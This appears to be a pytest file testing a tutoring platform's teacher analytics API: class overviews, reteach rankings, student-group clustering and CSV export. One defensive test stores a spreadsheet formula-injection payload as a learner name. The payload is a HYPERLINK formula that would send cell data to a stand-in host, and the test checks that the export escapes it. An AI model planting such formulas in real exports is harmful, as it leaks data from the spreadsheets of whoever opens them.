"""The teacher's routes (class overview, what to reteach, suggested groups) and CSV export,
against hand-computed values on a small fixture (SQLite and PostgreSQL).

Group g1 = {u0, u1} (u3, who never answers, joins where a test says). Prerequisites
c0 -> c1 -> c2. Items: i0 -> c0, c1; i1 -> c0; i5 -> c1, c2; i6 -> c1.

    u0 ("Ada"): i0 1, i1 0, i5 1, i1 1, i1 1, i1 1, i1 1
    u1:         i1 0, i6 0, i1 1, i6 0, i6 0
    u2 (g2):    i1 1

Own evidence (mastered: >= 3 own answers and evidence >= 0.8; struggling: 3 wrong in a
row, or 8 questions without mastery):

    u0: c0 = 1 0 1 1 1 1 (mastered), c1 = 1 1 (learning), c2 = 1 (learning), c3: none
    u1: c0 = 0 1 (learning), c1 = 0 0 0 (struggling), c2, c3: none

Counts: u0 1 mastered, 2 learning, 0 struggling, 1 not started; u1 0, 1, 1, 2.
What to reteach: c1 (1 struggling), then c0 and c2 (1 learning each, curriculum order).
Ready to learn (not mastered, not struggling, prerequisites mastered; those being learned
first, then those just opened by a mastered prerequisite, then concepts without any):
u0 c1 (learning, c0 mastered) then c3 (no prerequisites), not c2 (c1 not mastered);
u1 c0 (learning) then c3; u3 (no answers) c0 and c3 in curriculum order.
"""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest

from tests.tutor.helpers import GROUP_ACCESS, answer_batch, set_org_settings

ANSWERS = [
    ("a1", "u0", "i0", 1, "10:00"),
    ("a2", "u0", "i1", 0, "10:01"),
    ("a3", "u0", "i5", 1, "10:02"),
    ("a4", "u0", "i1", 1, "10:03"),
    ("a5", "u0", "i1", 1, "10:04"),
    ("a6", "u0", "i1", 1, "10:05"),
    ("a7", "u0", "i1", 1, "10:06"),
    ("b1", "u1", "i1", 0, "10:00"),
    ("b2", "u1", "i6", 0, "10:05"),
    ("b3", "u1", "i1", 1, "10:06"),
    ("b4", "u1", "i6", 0, "10:07"),
    ("b5", "u1", "i6", 0, "10:08"),
    ("x1", "u2", "i1", 1, "10:04"),
]


@pytest.fixture
def taught(client, world):
    from tutor.analytics import clear_caches

    clear_caches()
    h = world.headers("admin")
    # the organisation's display name (``display_name`` is the same field as ``name``)
    r = client.put("/v1/learners/u0", json={"display_name": "Ada"}, headers=h)
    assert r.status_code == 200 and r.json()["name"] == "Ada", r.text
    batch = answer_batch(ANSWERS)
    r = client.post("/v1/answers", json={"answers": batch}, headers=world.headers("ingest"))
    assert r.status_code == 201, r.text
    return client


def _names(client, world) -> dict[str, str]:
    r = client.get("/v1/concepts?limit=100", headers=world.headers("admin"))
    return {c["id"]: c["name"] or f"concept {c['id']}" for c in r.json()["concepts"]}


def _curriculum(client, world) -> list[str]:
    grid = client.get("/v1/analytics/groups/g1/mastery", headers=world.headers("admin")).json()
    return [c["concept_id"] for c in grid["concepts"]]


def test_statuses_are_those_of_the_mastery_route(taught, world):
    h = world.headers("admin")
    want = {
        "u0": {"c0": "mastered", "c1": "learning", "c2": "learning", "c3": "estimated"},
        "u1": {"c0": "learning", "c1": "struggling", "c2": "estimated", "c3": "estimated"},
    }
    for u, statuses in want.items():
        r = taught.get(f"/v1/learners/{u}/mastery", headers=h).json()
        assert {c["concept_id"]: c["status"] for c in r["concepts"]} == statuses


def test_class_overview(taught, world):
    h = world.headers("teacher")
    taught.put("/v1/groups/g1/members", json=["u0", "u1", "u3"], headers=world.headers("admin"))
    r = taught.get("/v1/analytics/groups/g1/students", headers=h)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["total"] == 3 and body["n_concepts"] == 4 and body["timed"] is True
    # an imported history (2024): days without an answer count before the group's latest
    assert body["reference"] == "the group's latest answer"
    assert body["reference_time"].startswith("2024-03-01T10:08:00")
    assert body["latest_activity"].startswith("2024-03-01T10:08:00")
    assert "at least 3 own answers" in body["rule_text"]
    rows = {x["learner_id"]: x for x in body["students"]}
    counts = {
        u: (x["mastered"], x["learning"], x["struggling"], x["not_started"])
        for u, x in rows.items()
    }
    assert counts == {"u0": (1, 2, 0, 1), "u1": (0, 1, 1, 2), "u3": (0, 0, 0, 4)}
    # sorted by what a teacher reads: the display name where given, else the id
    assert [x["label"] for x in body["students"]] == ["Ada", "u1", "u3"]
    assert rows["u0"]["name"] == "Ada" and rows["u1"]["name"] == ""
    assert [x["answers"] for x in body["students"]] == [7, 5, 0]
    assert rows["u0"]["last_activity"].startswith("2024-03-01T10:06:00")
    assert rows["u0"]["days_inactive"] == pytest.approx(2 / 1440, abs=1e-4)
    assert rows["u3"]["last_activity"] is None
    names = _names(taught, world)
    assert rows["u1"]["struggling_on"] == [{"concept_id": "c1", "name": names["c1"]}]
    assert rows["u0"]["struggling_on"] == []
    order = _curriculum(taught, world)

    def ready(*cs: str) -> list[str]:
        return sorted(cs, key=order.index)

    assert [c["concept_id"] for c in rows["u0"]["ready_to_learn"]] == ["c1", "c3"]
    assert [c["concept_id"] for c in rows["u1"]["ready_to_learn"]] == ["c0", "c3"]
    # u3 has mastered nothing: the concepts without prerequisites (c0, c3)
    assert [c["concept_id"] for c in rows["u3"]["ready_to_learn"]] == ready("c0", "c3")
    # sorting and paging
    r = taught.get("/v1/analytics/groups/g1/students?sort=struggling&limit=1", headers=h)
    assert [x["learner_id"] for x in r.json()["students"]] == ["u1"]
    r = taught.get("/v1/analytics/groups/g1/students?sort=not_started&offset=1", headers=h)
    assert [x["learner_id"] for x in r.json()["students"]] == ["u1", "u0"]
    assert taught.get("/v1/analytics/groups/g1/students?sort=x", headers=h).status_code == 422


def test_what_to_reteach(taught, world):
    r = taught.get("/v1/analytics/groups/g1/reteach", headers=world.headers("teacher"))
    assert r.status_code == 200, r.text
    body = r.json()
    rows = body["concepts"]
    assert [x["concept_id"] for x in rows] == ["c1", "c0", "c2"] and body["total"] == 3
    got = {
        x["concept_id"]: (x["struggling"], x["learning"], x["mastered"], x["not_started"])
        for x in rows
    }
    assert got == {"c1": (1, 1, 0, 0), "c0": (0, 1, 1, 0), "c2": (0, 1, 0, 1)}
    by = {x["concept_id"]: x for x in rows}
    assert by["c1"]["struggling_students"] == [{"learner_id": "u1", "label": "u1"}]
    assert by["c0"]["struggling_students"] == []
    # c0's answers: u0 i0 1, i1 0 1 1 1 1; u1 i1 0 1 -> 8 answers, 6 correct
    assert (by["c0"]["answers"], by["c0"]["practised_by"]) == (8, 2)
    assert by["c0"]["success_rate"] == pytest.approx(6 / 8)
    # c1: u0 i0 1, i5 1; u1 i6 0 0 0 -> 5 answers, 2 correct
    assert by["c1"]["success_rate"] == pytest.approx(2 / 5)
    mastery = {
        u: {
            c["concept_id"]: c["mastery"]
            for c in taught.get(f"/v1/learners/{u}/mastery", headers=world.headers("admin")).json()[
                "concepts"
            ]
        }
        for u in ("u0", "u1")
    }
    assert by["c0"]["mean_mastery"] == pytest.approx(
        (mastery["u0"]["c0"] + mastery["u1"]["c0"]) / 2, abs=2e-6
    )
    assert by["c2"]["mean_mastery"] == pytest.approx(mastery["u0"]["c2"], abs=2e-6)
    page = taught.get(
        "/v1/analytics/groups/g1/reteach?limit=1&offset=1", headers=world.headers("teacher")
    )
    assert [x["concept_id"] for x in page.json()["concepts"]] == ["c0"]


def test_suggested_groups_small_class_is_one_group(taught, world):
    h = world.headers("admin")
    taught.put("/v1/groups/g1/members", json=["u0", "u1", "u3"], headers=h)
    r = taught.get("/v1/analytics/groups/g1/suggested-groups", headers=world.headers("teacher"))
    assert r.status_code == 200, r.text
    body = r.json()
    # two active students cannot make two groups of at least three
    assert len(body["groups"]) == 1 and body["silhouette"] is None
    g = body["groups"][0]
    assert g["size"] == 2 and {s["label"] for s in g["students"]} == {"Ada", "u1"}
    # need = 2 x struggling + learning: c1 (2 + 1), then c0 and c2 (1 each, curriculum order)
    assert [c["concept_id"] for c in g["needs"]] == ["c1", "c0", "c2"]
    assert g["needs"][0] == {
        "concept_id": "c1",
        "name": _names(taught, world)["c1"],
        "struggling": 1,
        "learning": 1,
    }
    assert g["mean_counts"] == {
        "mastered": 0.5,
        "learning": 1.5,
        "struggling": 0.5,
        "not_started": 1.5,
    }
    # first ready concept: u0 c1, u1 c0 (a tie: the earlier in the curriculum)
    assert g["ready_to_learn"]["concept_id"] == "c0" and g["ready_to_learn"]["students"] == 1
    assert g["summary"].startswith("struggling with " + _names(taught, world)["c1"])
    assert body["not_started"] == [{"learner_id": "u3", "label": "u3"}]


def test_clustering_separates_clear_groups():
    """Two kinds of students (four have mastered concepts 0-2, four struggle with them) and
    two outliers too few for a group of their own: two groups, each one kind."""
    from tutor.analytics.teaching import MIN_GROUP_STUDENTS, TARGET_GROUP_SIZE, _cluster

    strong = [0.95, 0.9, 0.92, 0.2]
    weak = [0.1, 0.15, 0.05, 0.2]
    x = np.array([strong] * 4 + [weak] * 4, dtype=float)
    labels = _cluster(x, 5)
    assert len(set(labels[:4])) == 1 and len(set(labels[4:])) == 1 and labels[0] != labels[4]
    assert _cluster(x, 1).tolist() == [0] * 8
    # no group smaller than MIN_GROUP_STUDENTS: the outliers join the nearer group
    mixed = np.vstack([x, [[0.5, 0.5, 0.5, 0.9]] * (MIN_GROUP_STUDENTS - 1)])
    sizes = np.bincount(_cluster(mixed, 5))
    assert len(sizes) == 2 and sizes.min() >= MIN_GROUP_STUDENTS
    # the same answer every time
    assert _cluster(mixed, 5).tolist() == _cluster(mixed, 5).tolist()
    # a class of 32 in four blocks: four groups of about TARGET_GROUP_SIZE
    rng = np.random.default_rng(0)
    centres = np.eye(4)
    big = np.vstack([c + rng.normal(0, 0.05, (8, 4)) for c in centres])
    labels = _cluster(big, 5)
    assert round(32 / TARGET_GROUP_SIZE) == 4 and sorted(np.bincount(labels)) == [8, 8, 8, 8]
    for b in range(4):
        assert len(set(labels[b * 8 : (b + 1) * 8])) == 1


def test_a_class_with_two_far_weaker_students_still_splits():
    """Eighteen students: sixteen close together, two far weaker (a real class: k-means
    puts those two alone, too few for a group, and the class used to become one group of
    18). The two get a group with the classmate nearest to them; the rest stay together."""
    from tutor.analytics.teaching import MIN_GROUP_STUDENTS, _cluster

    rng = np.random.default_rng(3)
    cloud = np.clip(0.7 + rng.normal(0, 0.08, (16, 6)), 0, 1)
    weakest = np.array([[0.05] * 6, [0.1] * 6])
    x = np.vstack([cloud, weakest])
    labels = _cluster(x, 5)
    sizes = np.bincount(labels)
    assert len(sizes) == 2 and sizes.min() == MIN_GROUP_STUDENTS
    assert labels[16] == labels[17]
    third = [k for k in np.flatnonzero(labels == labels[16]) if k < 16]
    assert third == [int(np.argmin(np.linalg.norm(cloud - weakest.mean(0), axis=1)))]


def test_a_small_group_takes_the_students_nearest_to_its_centre():
    from tutor.analytics.teaching import _fill_small

    # group 0 (one student at its centre) needs one more; group 1 can spare two. The student
    # at -1.9 is 2.0 from group 0's centre but far from their own; the one at 1.0 is nearer
    x = np.array([[0.1, 0.0], [-1.9, 0.0], [1.0, 0.0], [5.0, 0.0], [5.1, 0.0]])
    centres = np.array([[0.1, 0.0], [5.0, 0.0]])
    labels = _fill_small(x, np.array([0, 1, 1, 1, 1]), centres, 2)
    assert labels.tolist() == [0, 1, 0, 1, 1]


def _csv(r) -> list[dict[str, str]]:
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"].startswith("attachment; filename=")
    return list(csv.DictReader(io.StringIO(r.text)))


def test_csv_export_of_every_table(taught, world):
    h = world.headers("teacher")
    base = "/v1/analytics/groups/g1"
    students = _csv(taught.get(f"{base}/students?format=csv", headers=h))
    assert [x["learner_id"] for x in students] == ["u0", "u1"]
    assert students[0]["name"] == "Ada" and students[1]["struggling"] == "1"
    assert [x["label"] for x in students] == ["Ada", "u1"]
    assert students[1]["struggling_on"] == _names(taught, world)["c1"]
    # Accept: text/csv asks for it too
    assert _csv(taught.get(f"{base}/students", headers=h | {"Accept": "text/csv"})) == students
    reteach = _csv(taught.get(f"{base}/reteach?format=csv", headers=h))
    assert [x["concept_id"] for x in reteach] == ["c1", "c0", "c2"]
    assert reteach[0]["struggling_students"] == "u1"
    # the grid: one row per (learner, concept), the whole group without a limit
    grid = _csv(taught.get(f"{base}/mastery?format=csv", headers=h))
    assert len(grid) == 2 * 4
    row = next(x for x in grid if x["learner_id"] == "u1" and x["concept_id"] == "c1")
    assert (row["status"], row["own_answers"]) == ("struggling", "3")
    assert len(_csv(taught.get(f"{base}/mastery?format=csv&limit=1", headers=h))) == 4
    groups = _csv(taught.get(f"{base}/suggested-groups?format=csv", headers=h))
    assert {x["learner_id"] for x in groups} == {"u0", "u1"}
    risk = _csv(taught.get(f"{base}/at-risk?format=csv", headers=h))
    assert set(risk[0]) >= {"learner_id", "severity", "reasons"}
    set_org_settings(world, curve_min_learners=1)
    curves = _csv(taught.get(f"{base}/learning-curves?format=csv", headers=h))
    assert {x["concept_id"] for x in curves} == {"c0", "c1", "c2"}
    assert set(curves[0]) >= {"observed_low", "observed_high", "predicted_error"}
    items = _csv(taught.get(f"{base}/items?format=csv", headers=h))
    assert {x["item_id"] for x in items} == {"i0", "i1", "i5", "i6"}
    tl = _csv(taught.get("/v1/analytics/learners/u0/timeline?format=csv", headers=h))
    assert [x["event_id"] for x in tl] == [f"a{k}" for k in range(1, 8)]
    assert any(c.startswith("estimate: ") for c in tl[0])
    # JSON stays the default, and an unknown format is a 422
    assert (
        taught.get(f"{base}/students", headers=h)
        .headers["content-type"]
        .startswith("application/json")
    )
    assert taught.get(f"{base}/students?format=xml", headers=h).status_code == 422


def test_csv_cells_never_run_as_formulas(taught, world):
    h = world.headers("admin")
    evil = '=HYPERLINK("http://x.test/?"&A1,"click")'
    assert taught.put("/v1/learners/u1", json={"name": evil}, headers=h).status_code == 200
    rows = _csv(taught.get("/v1/analytics/groups/g1/students?format=csv", headers=h))
    cell = next(x["name"] for x in rows if x["learner_id"] == "u1")
    assert cell == "'" + evil
    # numbers stay numbers (a negative change is not text)
    risk = _csv(taught.get("/v1/analytics/groups/g1/at-risk?format=csv", headers=h))
    for x in risk:
        if x["mastery_change"]:
            float(x["mastery_change"])


def test_small_numbers_are_hidden_by_default(taught, world):
    """With the default minimums (5 learners per curve point, 10 per flagged item), the
    fixture's two learners make no curve point and no item flag; the settings lower them."""
    h = world.headers("admin")
    body = taught.get("/v1/analytics/groups/g1/learning-curves", headers=h).json()
    assert body["min_learners"] == 5
    assert all(c["points"] == [] and c["hidden_points"] > 0 for c in body["curves"])
    set_org_settings(world, item_flag_min_attempts=1, item_flag_z=0.0001)
    items = taught.get("/v1/analytics/groups/g1/items", headers=h).json()
    assert items["thresholds"]["item_flag_min_learners"] == 10
    assert not any(i["flagged"] or i["enough_data"] for i in items["items"])
    # every item still shows its observed success with an interval around it
    for i in items["items"]:
        assert i["observed_low"] <= i["observed_success"] <= i["observed_high"]
    r = taught.patch("/v1/organisation/settings", json={"curve_min_learners": 2}, headers=h)
    assert r.status_code == 200, r.text
    body = taught.get("/v1/analytics/groups/g1/learning-curves", headers=h).json()
    pts = {c["concept_id"]: [p["opportunity"] for p in c["points"]] for c in body["curves"]}
    # c0: both learners at opportunities 1 and 2; c1: 1 and 2 (u0 has 2, u1 3); c2: u0 only
    assert pts["c0"][:2] == [1, 2] and pts["c2"] == []


def test_teacher_routes_access_rules(taught, world):
    routes = ["students", "reteach", "suggested-groups"]
    for route in routes:
        for (who, g), code in GROUP_ACCESS.items():
            for fmt in ("", "?format=csv"):
                url = f"/v1/analytics/groups/{g}/{route}{fmt}"
                r = taught.get(url, headers=world.headers(who))
                assert r.status_code == code, (route, who, g, fmt, r.text)
                if code != 200:
                    # errors stay JSON with a detail, CSV asked or not
                    assert "detail" in r.json()
        assert taught.get(f"/v1/analytics/groups/g1/{route}").status_code == 401


def test_a_new_answer_updates_only_what_it_changes(taught, world):
    """After an answer, the cached statuses are updated for the learner who answered (the
    others' rows are kept), and equal a computation from scratch."""
    from tutor.analytics import clear_caches

    h = world.headers("teacher")
    before = taught.get("/v1/analytics/groups/g1/mastery", headers=h).json()
    # u1 answers c1 right three times: no longer struggling (run +3), still not mastered
    for k in range(3):
        new = {"event_id": f"n{k}", "learner_id": "u1", "item_id": "i6", "correct": 1}
        new["timestamp"] = f"2024-03-01T10:1{k}:00Z"
        r = taught.post("/v1/answers", json=new, headers=world.headers("ingest"))
        assert r.status_code == 201, r.text
    after = taught.get("/v1/analytics/groups/g1/mastery", headers=h).json()
    clear_caches()
    fresh = taught.get("/v1/analytics/groups/g1/mastery", headers=h).json()
    assert after == fresh
    assert after["learners"][0] == before["learners"][0]  # u0 untouched
    cols = [c["concept_id"] for c in after["concepts"]]
    u1 = dict(zip(cols, after["learners"][1]["status"], strict=True))
    assert u1["c1"] != "struggling" and after["learners"][1]["answers"][cols.index("c1")] == 6


def test_a_concept_the_model_does_not_know_still_counts(taught, world):
    """A concept added after training has no model estimate, but a student's own answers on
    it give it a status: the same in GET /mastery, the grid, the overview and reteach."""
    h = world.headers("admin")
    r = taught.put("/v1/concepts/cz", json={"name": "Fractions on a number line"}, headers=h)
    assert r.status_code in (200, 201), r.text
    r = taught.put("/v1/items/iz", json={"concepts": ["cz"]}, headers=h)
    assert r.status_code in (200, 201), r.text
    for k in range(3):
        new = {"event_id": f"z{k}", "learner_id": "u1", "item_id": "iz", "correct": 0}
        new["timestamp"] = f"2024-03-01T10:3{k}:00Z"
        r = taught.post("/v1/answers", json=new, headers=world.headers("ingest"))
        assert r.status_code == 201, r.text
    mine = {
        c["concept_id"]: c
        for c in taught.get("/v1/learners/u1/mastery", headers=h).json()["concepts"]
    }
    assert mine["cz"]["status"] == "struggling" and mine["cz"]["estimate"] is None
    grid = taught.get("/v1/analytics/groups/g1/mastery", headers=h).json()
    cols = [c["concept_id"] for c in grid["concepts"]]
    j = cols.index("cz")
    u1 = grid["learners"][1]
    assert (u1["status"][j], u1["answers"][j]) == ("struggling", 3)
    assert u1["mastery"][j] == pytest.approx(mine["cz"]["mastery"])
    assert grid["learners"][0]["mastery"][j] is None  # no answers, no estimate
    students = taught.get("/v1/analytics/groups/g1/students", headers=h).json()
    u1 = next(x for x in students["students"] if x["learner_id"] == "u1")
    assert {c["concept_id"] for c in u1["struggling_on"]} == {"c1", "cz"}
    assert u1["struggling"] == 2 and students["n_concepts"] == 5
    reteach = taught.get("/v1/analytics/groups/g1/reteach", headers=h).json()
    assert {x["concept_id"] for x in reteach["concepts"] if x["struggling"]} == {"c1", "cz"}
    risk = taught.get("/v1/analytics/groups/g1/at-risk", headers=h).json()
    reasons = next(x for x in risk["learners"] if x["learner_id"] == "u1")["reasons"]
    assert "3 wrong in a row on Fractions on a number line" in reasons


def test_csv_file_names_in_any_script(taught, world):
    """Ids are free text: a group id in Cyrillic gives an ASCII file name and the UTF-8 one."""
    from urllib.parse import unquote

    h = world.headers("admin")
    assert taught.put("/v1/groups/Класс-5А", json={"name": "5A"}, headers=h).status_code == 201
    assert taught.put("/v1/groups/Класс-5А/members", json=["u0"], headers=h).status_code == 200
    r = taught.get("/v1/analytics/groups/Класс-5А/students?format=csv", headers=h)
    assert r.status_code == 200, r.text
    cd = r.headers["content-disposition"]
    plain = cd.split('filename="')[1].split('"')[0]
    assert plain.isascii() and plain.endswith("students.csv")
    assert unquote(cd.split("filename*=UTF-8''")[1]) == "Класс-5А-students.csv"
    assert r.headers["vary"] == "Accept"
    assert taught.get("/v1/analytics/groups/g1/students", headers=h).headers["vary"] == "Accept"
    # the reteach CSV names every struggling student (JSON: the first ten)
    rows = _csv(taught.get("/v1/analytics/groups/g1/reteach?format=csv", headers=h))
    assert rows[0]["struggling_students"] == "u1"


def test_ready_to_learn_puts_opened_concepts_before_untouched_ones(taught, world):
    """With c0 and c1 mastered, u1's c2 opens and comes before c3 (no prerequisites) though
    the curriculum teaches c3 first (its level is lower)."""
    h = world.headers("admin")
    names = _names(taught, world)
    for c, level in (("c0", 2), ("c1", 2), ("c2", 2), ("c3", 1)):
        r = taught.put(f"/v1/concepts/{c}", json={"name": names[c], "level": level}, headers=h)
        assert r.status_code == 200, r.text
    order = _curriculum(taught, world)
    assert order.index("c3") < order.index("c2"), order
    for k, (item, ok) in enumerate([("i1", 1), ("i1", 1), ("i1", 1)] + [("i6", 1)] * 6):
        new = {"event_id": f"r{k}", "learner_id": "u1", "item_id": item, "correct": ok}
        new["timestamp"] = f"2024-03-01T11:{k:02d}:00Z"
        r = taught.post("/v1/answers", json=new, headers=world.headers("ingest"))
        assert r.status_code == 201, r.text
    mine = {
        c["concept_id"]: c["status"]
        for c in taught.get("/v1/learners/u1/mastery", headers=h).json()["concepts"]
    }
    assert mine["c0"] == "mastered" and mine["c1"] == "mastered", mine
    students = taught.get("/v1/analytics/groups/g1/students", headers=h).json()
    u1 = next(x for x in students["students"] if x["learner_id"] == "u1")
    assert [c["concept_id"] for c in u1["ready_to_learn"]] == ["c2", "c3"]


def test_group_fingerprint_tells_rosters_with_equal_sums_apart():
    """Cached group results are reused only for the same members with the same answer
    counts: {10: 5 answers, 13: 0} and {11: 5, 12: 0} have equal counts and sums."""
    from tutor.analytics.context import _Members

    def members(ids, n):
        return _Members(
            ids=np.array(ids, dtype=np.int64),
            ext=[str(i) for i in ids],
            names=["", ""],
            n_answers=np.array(n, dtype=np.int64),
            first_seen=np.full(2, np.nan),
            last_answer=[None, None],
        )

    a, b = members([10, 13], [5, 0]), members([11, 12], [5, 0])
    assert a.fingerprint != b.fingerprint
    assert members([10, 13], [4, 1]).fingerprint != a.fingerprint
    assert members([10, 13], [5, 0]).fingerprint == a.fingerprint
